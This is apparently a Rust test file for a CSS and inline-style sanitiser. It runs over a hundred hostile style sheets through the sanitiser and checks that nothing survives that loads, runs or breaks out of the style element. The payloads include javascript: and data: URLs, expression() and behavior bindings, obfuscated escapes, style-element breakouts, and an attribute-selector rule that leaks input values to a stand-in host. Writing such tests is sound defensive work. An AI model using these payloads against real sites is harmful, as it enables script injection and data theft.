//! Style sheets that mean harm, and what is used of them.

mod judge;

use judge::{check_css, check_html, parse, sanitise, sanitise_declarations};

const SHEETS: [&str; 134] = [
    "@import \"//e.example/x.css\";",
    "@import url(//e.example/x.css);",
    "@IMPORT/**/'x';",
    "@\\69mport \"x\";",
    "@i\\6d port url(\"x\");",
    "@charset \"utf-7\";@import \"x\";",
    "@media x{@import \"y\";a{b:c}}",
    "a{}@import \"x\";",
    "@namespace url(http://www.w3.org/1999/xhtml);",
    "@font-face{font-family:a;src:url(//e.example/f.woff)}",
    "@font-face{font-family:a;src:local(x),url(//e.example/?A);unicode-range:U+41}",
    "@property --x{syntax:\"<url>\";inherits:true;initial-value:url(//e.example)}",
    "@page{background:url(//e.example)}",
    "@page :first{@top-left{content:url(//e.example)}}",
    "@document url-prefix(\"https://\"){a{b:c}}",
    "@-moz-document url(x){a{b:c}}",
    "@counter-style x{system:cyclic;symbols:url(//e.example)}",
    "@font-feature-values X{@styleset{a:1}}",
    "@font-palette-values --x{override-colors:0 red}",
    "@scope (a) to (b){c{d:e}}",
    "@starting-style{a{b:url(javascript:x)}}",
    "@view-transition{navigation:auto}",
    "@supports (background:url(//e.example)){a{b:c}}",
    "@media screen and (x:url(//e.example)){a{b:c}}",
    "@layer url(//e.example){a{b:c}}",
    "@keyframes x{from{background:url(javascript:x)}to{position:fixed}}",
    "@keyframes \"</style><script>\"{from{a:b}}",
    "@container x style(--y:url(z)){a{b:c}}",
    "a{background:url(javascript:steal())}",
    "a{background:url(\"javascript:steal()\")}",
    "a{background:url(data:text/html,<script>steal()</script>)}",
    "a{background:\\75\\72\\6c(//e.example/leak)}",
    "a{background:u\\rl(x)}",
    "a{background:URL(//e.example/leak)}",
    "a{background:url(//e.example/leak}",
    "a{background:url('//e.example/leak",
    "a{background:url(//e.example/a b)}",
    "a{background:url(//e.example/\"x\")}",
    "a{background:url(\\))}b{c:d}",
    "a{background:url(\"\\\"));x:url(y\")}",
    "a{background:image-set(\"//e.example/leak\" 1x)}",
    "a{background:-webkit-image-set(\"//e.example/leak\" 1x)}",
    "a{background:image(\"//e.example/leak\")}",
    "a{background:im\\61ge-set(\"//e.example/leak\" 1x)}",
    "a{background:cross-fade(url(//e.example/1),url(//e.example/2),50%)}",
    "a{background:-webkit-cross-fade(url(//e.example/1),url(x),50%)}",
    "a{background:element(#x)}",
    "a{background:-moz-element(#x)}",
    "a{background:paint(x)}",
    "a{background:src(\"//e.example/leak\")}",
    "a{background:var(--x,url(//gone.example/y))}",
    "a{--x:url(javascript:steal());background:var(--x)}",
    "a{--x:\"//e.example/leak\";background:image-set(var(--x) 1x)}",
    "a{--u:u;--x:var(--u)rl(//e.example/leak)}",
    "a{background:attr(data-x url)}",
    "a{background:attr(data-x type(<url>))}",
    "a{background:attr(data-x type(*))}",
    "a{width:expression(steal())}",
    "a{width:exp/**/ression(steal())}",
    "a{width:ex\\pression(steal())}",
    "a{width:\\65\\78\\70ression(steal())}",
    "a{behavior:url(x.htc)}",
    "a{beh\\61vior:url(x.htc)}",
    "a{BEHAVIOR:url(x.htc)}",
    "a{-moz-binding:url(x.xml#y)}",
    "a{-o-link:'javascript:steal()';-o-link-source:current}",
    "a{src:url(x);SRC:\"y\"}",
    "a{cursor:url(//e.example/c),auto}",
    "a{list-style:url(//e.example/leak)}",
    "a{content:url(//gone.example/leak)\"x\"}",
    "a{filter:url(//e.example/x.svg#f)}",
    "a{filter:url(#local)}",
    "a{mask:url(data:image/svg+xml,x)}",
    "a{position:fixed}",
    "a{position:FiXeD!important}",
    "a{position:sticky;position:-webkit-sticky}",
    "a{position:fi\\78 ed}",
    "a{position:/*x*/fixed/*y*/}",
    "a{position:var(--x,fixed)}",
    "a{position:absolute fixed}",
    "a{b:c;position:fixed",
    ":host{position:fixed!important;inset:0}",
    ":host(x){a:b}",
    ":host-context(body){a:b}",
    "a :host b{c:d}",
    ":\\68ost{a:b}",
    ":HOST{a:b}",
    "a::part(b){c:d}",
    "::slotted(*){a:b}",
    ":not(:host){a:b}",
    "a{:host{b:c}&:host{d:e}::part(x){f:g}}",
    "</style><script>steal()</script>",
    "a{b:\"</style><script>steal()</script>\"}",
    "a{b:'</STYLE >'}",
    "a{b:\\3c/style>}",
    "a{b:\\3c\\2fstyle>}",
    "a{b:\"\\3c/style>\"}",
    ".\\</style\\>{a:b}",
    "[x=\"</style>\"]{a:b}",
    "#\\<\\!--{a:b}",
    "a{\\</style:b}",
    "a{b:1\\</style}",
    "<!--</style>--><script>",
    "/*</style><script>steal()</script>*/a{b:c}",
    "/* unclosed </style>",
    "a{b:c}/*",
    "a{b:\"unclosed",
    "a{b:'unclosed</style>",
    "a{b:c;d:\"x\ny\";e:url(z\n}f{g:h}",
    "a{b:c}}}}}d{e:f}",
    "a{b:(c;d)}e{f:[g}h]}",
    "a{b:{c:d};e:f}",
    "a{b:c}{}{d:e}",
    "a{;;;b:c;;!important;d}",
    "a{b:c!ie;*d:e;_f:g}",
    "a,{b:c} ,d{e:f}",
    "@;@{}@x;@x{}@media{}@media;",
    "@media{@media{@media{a{b:url(javascript:x)}}}}",
    "a{@media x{b:url(javascript:x);c:d}}",
    "a{@import \"x\";b:c}",
    "a{b:\\\nc}",
    "a{b:c\\",
    "a{b:1e999px;c:-.0e-5;d:+1E3%;e:1\\65 3}",
    "a{b:U+26,u+0-7F}",
    "a{b:@import;c:@x}",
    "a{b:#\\3c x;c:#1;d:#}",
    "a{b:x()y(}",
    "input[value^=\"a\"]{background:url(//e.example/?a)}",
    "a{b:\0;c\0d:e}",
    "\0",
    "\u{feff}@import 'x';",
    "a\x0c{b:c}\r\n@import\r\n'x'",
    "é{ü:ß}",
    "a{b:'\\\n</style>'}",
];

#[test]
fn nothing_comes_out_of_hostile_sheets_that_loads_or_runs_or_ends_the_element() {
    assert!(SHEETS.len() >= 60);
    for sheet in SHEETS {
        for css in [
            sheet.to_owned(),
            format!("x{{y:z}}{sheet}"),
            format!("@media all{{{sheet}}}"),
            format!("a{{{sheet}}}"),
            format!("a{{b:{sheet}}}"),
            format!("/*{sheet}*/{sheet}"),
            format!("[a=\"{sheet}\"]{{b:c}}{sheet}"),
        ] {
            let clean = sanitise(&css);
            check_css(&clean, &css);
            assert_eq!(sanitise(&clean), clean, "of {css:?}");
            let clean = sanitise_declarations(&css);
            check_css(&clean, &css);
            assert!(!clean.contains(['{', '}', '@']), "{clean} of {css:?}");
            assert_eq!(sanitise_declarations(&clean), clean, "of {css:?}");
        }
    }
}

#[test]
fn nothing_comes_out_of_hostile_styles_of_elements() {
    for sheet in SHEETS {
        let style = sheet.replace('"', "&quot;");
        let declarations =
            sheet.split_once('{').map_or(sheet, |(_, rest)| rest).replace('"', "&quot;");
        let html =
            format!("<section style=\"{style}\"><p style=\"{declarations}\">x</p></section>");
        check_html(&parse(&html).sections[0].html, &html);
    }
}
